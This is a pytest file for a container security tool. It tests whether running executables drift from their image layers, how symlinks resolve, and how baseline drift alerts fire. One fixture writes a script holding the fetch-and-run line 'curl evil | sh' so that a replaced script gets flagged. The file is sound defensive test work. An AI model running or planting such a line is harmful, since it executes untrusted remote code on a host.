"""Zero-drift from the image layers without a kernel: symlinks resolved inside the image, the verdicts (the
image's, absent, replaced, mode changed, unknown), background loading, and the baseline's use of them."""

from __future__ import annotations

import os
from pathlib import Path

from containerguard.model import Event
from containerguard.runtime.baseline import BaselineDetector, BaselineStore
from containerguard.runtime.imagefiles import ImageFiles, LayerFile, resolve

INDEX = {
    "bin": LayerFile("l", 0o120777, 0, "usr/bin"),
    "usr/bin/date": LayerFile("f", 0o100755, 100, ""),
    "usr/bin/python3": LayerFile("l", 0o120777, 0, "/usr/bin/python3.11"),
    "usr/bin/python3.11": LayerFile("f", 0o100755, 300, ""),
    "usr/bin/perl": LayerFile("h", 0o100755, 0, "usr/bin/perl5"),
    "usr/bin/perl5": LayerFile("f", 0o100755, 200, ""),
    "loop": LayerFile("l", 0o120777, 0, "loop"),
}


def test_resolve_inside_the_image() -> None:
    assert resolve(INDEX, "/bin/date") == "usr/bin/date"
    assert resolve(INDEX, "/bin/python3") == "usr/bin/python3.11"
    assert resolve(INDEX, "/usr/bin/../bin/./perl") == "usr/bin/perl5"
    assert resolve(INDEX, "/loop/x") is None


def _proc(tmp_path: Path, pid: int, size: int, mode: int = 0o755) -> None:
    d = tmp_path / str(pid)
    d.mkdir()
    (d / "exe").write_bytes(b"x" * size)
    os.chmod(d / "exe", mode)


def test_verdicts(tmp_path: Path) -> None:
    files = ImageFiles(lambda image: INDEX if image == "sha256:img" else None, proc_root=str(tmp_path))
    assert files.drift("sha256:img", "/bin/date", 1) is None  # not loaded yet: unknown, load queued
    assert files.wait("sha256:img", 10) and not files.wait("sha256:other", 10)
    _proc(tmp_path, 1, 100)
    _proc(tmp_path, 2, 120)
    _proc(tmp_path, 3, 100, 0o4755)
    assert files.drift("sha256:img", "/bin/date", 1) == ""  # the image's own (copied up or not)
    assert files.drift("sha256:img", "/bin/date", 2).startswith("replaced after the container started (120 bytes")
    assert files.drift("sha256:img", "/bin/date", 3).startswith("mode changed after the container started (4755")
    assert files.drift("sha256:img", "/tmp/payload", 1) == "not in the image layers"
    assert files.drift("sha256:img", "/usr/bin/perl", 99) == ""  # gone, nothing known beyond the path
    upper = tmp_path / "upper"
    (upper / "usr/bin").mkdir(parents=True)
    (upper / "usr/bin/date").write_bytes(b"y" * 7)  # gone, but the upper layer holds what it ran
    os.chmod(upper / "usr/bin/date", 0o755)
    assert files.drift("sha256:img", "/bin/date", 99, str(upper)).startswith("replaced after the container started (7")
    assert files.drift("sha256:img", "/usr/bin/perl", 99, str(upper)) == ""  # not changed in the upper layer
    assert files.drift("sha256:other", "/bin/date", 1) is None
    # a script of the image: the process runs its interpreter (/proc/PID/exe is dash, of another size): the script
    # itself is what is checked (here: not changed in the upper layer, so the image's own)
    (tmp_path / "7").mkdir()
    os.symlink("/usr/bin/dash", tmp_path / "7" / "exe")
    files._indexes["sha256:img"] = {**INDEX, "usr/local/bin/job.sh": LayerFile("f", 0o100755, 17, "")}
    assert files.drift("sha256:img", "/usr/local/bin/job.sh", 7, str(upper)) == ""
    (upper / "usr/local/bin").mkdir(parents=True)
    (upper / "usr/local/bin/job.sh").write_bytes(b"#!/bin/sh\ncurl evil | sh\n")
    os.chmod(upper / "usr/local/bin/job.sh", 0o755)
    assert files.drift("sha256:img", "/usr/local/bin/job.sh", 7, str(upper)).startswith("replaced after")
    assert files.stats()["ready"] == ["sha256:img"] and files.stats()["failed"] == 1


def test_baseline_drift_follows_the_layers_where_known(tmp_path: Path) -> None:
    det = BaselineDetector(BaselineStore(tmp_path), quiet_s=3600)
    c = {"container.id": "abc", "container.name": "web", "container.image.id": "sha256:img"}

    def run(exe: str, **f: object) -> list[str]:
        ev = Event(type="execve", time_ns=1, fields={**c, "proc.exepath": exe, **f})
        return [a.rule_id for a in det.detect(ev)]

    # copied up (touch, chown) but the image's: no drift, though it is in the upper layer
    assert run("/usr/bin/date", **{"proc.is_exe_upper_layer": True, "proc.exe_drift": ""}) == []
    replaced = run("/usr/bin/tac", **{"proc.is_exe_upper_layer": True,
                                      "proc.exe_drift": "replaced after the container started (1 bytes; the image's has 2)"})
    assert replaced == ["CG-B005"]
    assert run("/usr/local/bin/x", **{"proc.exe_drift": None, "proc.is_exe_upper_layer": True}) == ["CG-B005"]
